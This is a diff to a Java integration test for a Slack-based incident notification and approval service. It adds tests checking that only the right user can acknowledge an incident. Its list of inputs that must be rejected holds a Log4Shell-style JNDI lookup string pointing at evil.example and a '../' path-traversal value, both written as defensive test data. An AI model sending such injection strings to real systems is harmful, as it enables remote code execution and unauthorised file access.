@@ -263,7 +263,7 @@ final class NotificationIT {
         .allMatch(call -> call.body().path("thread_ts").asString().equals(posts.getFirst().ts()))
         .allMatch(call -> call.authorization().equals("Bearer xoxb-test"));
     SlackStub.Call asked =
-        posts.stream().filter(c -> c.body().toString().contains("\"actions\"")).findFirst().get();
+        posts.stream().filter(c -> c.body().toString().contains("\"approve\"")).findFirst().get();
     List<SlackStub.Call> updates = slack.getFirst().calls("chat.update");
     assertThat(updates)
         .anyMatch(c ->
@@ -333,11 +333,31 @@ final class NotificationIT {
             body("UANN", "approve", "x"),
             body("UANN", "approve", value.replace(':', ';')),
             body("UANN", "delete", value),
+            body("UANN", "acknowledge", value),
+            body("UANN", "acknowledge", "../" + incident),
+            body("UANN", "approve", incident),
             body("<@UANN>", "approve", value),
             body("UANN", "approve", "${jndi:ldap://evil.example/a}"))) {
       String signed = right.sign(now, other.getBytes(StandardCharsets.UTF_8));
       assertThat(send(other, now, signed).statusCode()).as(other).isEqualTo(400);
     }
+    // Who looks after it, once, and only whose account may.
+    assertThat(click("UVIC", "acknowledge", incident).statusCode()).isEqualTo(200);
+    assertThat(lookedAfterBy(incident)).isEmpty();
+    assertThat(click("UANN", "acknowledge", incident).statusCode()).isEqualTo(200);
+    assertThat(lookedAfterBy(incident)).isEqualTo("user:ann");
+    await()
+        .atMost(PATIENCE)
+        .untilAsserted(() -> {
+          SlackStub.Call last =
+              slack.getFirst().calls("chat.update").stream()
+                  .filter(c -> c.body().toString().contains(incident))
+                  .reduce((one, next) -> next)
+                  .orElseThrow();
+          assertThat(last.body().toString())
+              .contains("ann looks after it")
+              .doesNotContain("\"acknowledge\"");
+        });
     // Understood, but not allowed, or for another plan.
     for (String user : List.of("USTRANGER", "UVIC", "UGHOST")) {
       assertThat(click(user, "approve", value).statusCode()).isEqualTo(200);
@@ -452,6 +472,13 @@ final class NotificationIT {
 
   private static String status(String incident) throws Exception {
     return Http.json(http.get("/api/incidents/" + incident)).path("status").asString();
+  }
+
+  private static String lookedAfterBy(String incident) throws Exception {
+    return Http.json(http.get("/api/incidents/" + incident))
+        .path("acknowledgement")
+        .path("by")
+        .asString("");
   }
 
   private static JsonNode approval(String value) throws Exception {
